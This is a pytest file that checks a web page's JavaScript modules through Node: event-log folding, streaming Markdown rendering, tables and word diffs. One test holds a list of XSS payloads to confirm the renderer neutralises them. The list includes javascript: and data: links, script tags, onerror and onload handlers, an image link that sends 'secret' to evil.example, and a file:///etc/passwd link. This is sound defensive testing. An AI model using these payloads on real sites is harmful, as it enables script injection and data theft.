"""The page's own modules, asked in Node: what they make of logs and of Markdown."""

from __future__ import annotations

import json
import random
import shutil
import subprocess
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headwater.events import Event, encode
from headwater.events.fold import fold
from headwater.testing import sample_logs
from tests.support.recordings import recordings

HERE = Path(__file__).parent
PAGE = files("headwater.web") / "page"

pytestmark = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")


def ask(what: str, **request: Any) -> Any:
    """What the modules say."""
    given = json.dumps({"ask": what, "page": str(PAGE), **request})
    done = subprocess.run(
        ["node", str(HERE / "harness.mjs")], input=given, capture_output=True, text=True, check=False, timeout=170
    )
    assert not done.returncode, done.stderr
    return json.loads(done.stdout)


def lines(log: tuple[Event, ...]) -> list[Any]:
    """The events as the server sends them."""
    return [json.loads(encode(event, stamps=True)) for event in log]


# --- the fold


def test_each_run_has_the_same_result_as_in_the_library() -> None:
    logs = dict(sample_logs())
    told = ask("fold", logs={name: lines(log) for name, log in logs.items()})
    for name, log in logs.items():
        runs: dict[str, list[Event]] = {}
        for event in log:
            runs.setdefault(event.run, []).append(event)
        for run, events in runs.items():
            ours, theirs = fold(events), told[name][run]
            assert theirs["text"] == ours.transcript, (name, run)
            assert theirs["path"] == list(events[0].path), (name, run)
            assert theirs["started"] == events[0].time
            ends = {"run.finished": "finished", "run.failed": "failed", "run.cancelled": "cancelled"}
            end = json.loads(encode(events[-1]))["type"]
            assert theirs["state"] == ends.get(end, theirs["state"]), (name, run)
            assert (theirs["ended"] is not None) == (end in ends), (name, run)
            if end in ends:
                assert theirs["tokens"] == ours.usage.output_tokens, (name, run)
                assert all(to is not None for _, _, to in theirs["bars"]), (name, run)


def test_seeking_in_a_log_shows_the_fold_up_to_there() -> None:
    die = random.Random(7)
    for name in ("tools", "retracted", "side by side", "approved", "an agent as a tool"):
        log = lines(sample_logs()[name])
        places = [die.randrange(len(log) + 1) for _ in range(20)]
        assert ask("seek", events=log, places=places) == [], name


# --- Markdown

SAMPLES = [
    "# Tides\n\nHigh water is at **06:12** and *18:37*.\n\n- one\n- two\n  - nested `code`\n\n1. first\n2. second\n",
    "| a | b |\n|---|---:|\n| 1 | 2 |\n| 3 | 4 |\n\nAfter the table.\n\n> quoted\n> more\n\n---\n",
    "```python\nx = 1\n\ny = 2\n```\n\nA line\nSetext\n======\n\nand ~~struck~~ [a link](https://example.org) too\n",
    "![a picture](https://example.org/x.png)\n\n- [x] done\n- [ ] not\n",
    "Text with <b>HTML</b>\n\n<div>\nblock\n</div>\n\nTail &amp; entity &#8212; here.\n",
    "- item\n\n  second paragraph of it\n\n- loose item\n\n    indented code\n\nnot in the list\n",
    "Windows lines\r\n\r\n* a\r\n* b\r\n\r\ntab\there\n",
    "[ref]: https://example.org\n\nA [ref] to it.\n",
]


@settings(max_examples=5, deadline=None)
@given(seed=st.integers(0, 2**32))
def test_growing_text_results_in_the_same_elements_as_the_complete_text(seed: int) -> None:
    die = random.Random(seed)
    texts = []
    for _ in range(60):
        text = "".join(die.sample(SAMPLES, die.randint(1, 4)))
        cuts = sorted(die.randrange(len(text)) for _ in range(die.randint(0, 30)))
        texts.append({"text": text, "cuts": cuts})
    texts += [{"text": text, "cuts": list(range(len(text)))} for text in SAMPLES]
    assert ask("blocks", texts=texts) == []


def test_no_mark_is_shown_that_disappears_when_it_is_closed() -> None:
    text = "Now **bold, `code` and *both*** ~~gone~~ _so_ [a link](https://example.org/x) end."
    shapes = (text, f"# {text}", f"- one\n- {text}", f"> {text}", f"| a |\n|---|\n| {text} |")
    texts = [shape[: len(shape) - at] for shape in shapes for at in range(len(text))]
    shown = ask("writing", texts=texts)
    assert not [words for words, _ in shown if {*"*`~_"} & {*words} or "](" in words]
    assert ask("writing", texts=["Now **bo", "Now **bold *bo", "Now `co"]) == [
        ["Now bo", ["p", "strong"]],
        ["Now bold bo", ["p", "strong", "em"]],
        ["Now co", ["p", "code"]],
    ]
    literal = ["2 * 3 = 6", "a_name and b", "```\n**x", "5 \\*", "f(**"]
    assert [words for words, _ in ask("writing", texts=literal)] == ["2 * 3 = 6", "a_name and b", "**x", "5 *", "f("]


def test_the_head_of_a_table_is_one_before_its_rule_is_whole() -> None:
    table = ["div", "table", "thead", "tr", "th", "th", "tbody"]
    for text in ("| a | b", "| a | b |", "| a | b |\n", "| a | b |\n|", "| a | b |\n|---|"):
        [[words, kinds]] = ask("writing", texts=[text])
        assert (words, kinds[-len(table) :]) == ("ab", table), text
    assert ask("writing", texts=["| a | b |\nno rule", "a | b"]) == [["| a | b |\nno rule", ["p"]], ["a | b", ["p"]]]


def test_nothing_in_a_text_becomes_active_content() -> None:
    hostile = [
        "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)",
        "[w](JaVaScRiPt:alert(1)) [&#106;avascript](&#106;avascript:alert(1))",
        "![x](https://evil.example/?q=secret) ![y](javascript:alert(1)) ![z](data:image/svg+xml,<svg onload=alert(1)>)",
        "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)>",
        "<javascript:alert(1)> <https://example.org> [a]( java\nscript:alert(1))",
        "[q](//evil.example) [f](file:///etc/passwd) [m](mailto:a@example.org)",
    ]
    found = ask("links", texts=hostile)
    kinds = {kind for kind, _ in found}
    assert not kinds & {"script", "img", "svg", "iframe", "object", "style", "form"}, kinds
    addresses = [address for kind, address in found if address is not None]
    assert addresses, "links are links"
    assert all(address.startswith(("https://", "mailto:")) for address in addresses), addresses


# --- two answers side by side


def test_the_diff_of_two_answers_is_what_only_one_of_them_has() -> None:
    told = ask(
        "diff", pairs=[["Leave by seven at the latest.", "Leave at seven at the latest."], ["", "new"], ["a b", "a b"]]
    )
    alone = [[[word for word, own in side if own] for side in (one["a"], one["b"])] for one in told]
    assert alone == [[["by"], ["at"]], [[], ["new"]], [[], []]]
    for (a, b), one in zip([["Leave by seven at the latest.", "Leave at seven at the latest."]], told, strict=False):
        assert "".join(word for word, _ in one["a"]) == a
        assert "".join(word for word, _ in one["b"]) == b


@pytest.mark.skipif(not recordings("anthropic-messages"), reason="the recordings are not here: set HEADWATER_SHARED")
def test_recorded_answers_grow_as_they_are() -> None:
    die = random.Random(3)
    texts = []
    for api in ("anthropic-messages", "openai-chat", "gemini"):
        for recording in recordings(api)[:150]:
            text = str(recording.expected.get("text") or "")
            cuts = sorted(die.randrange(len(text)) for _ in range(12)) if text else []
            texts.append({"text": text, "cuts": cuts})
    assert len(texts) > 200
    assert ask("blocks", texts=texts) == []
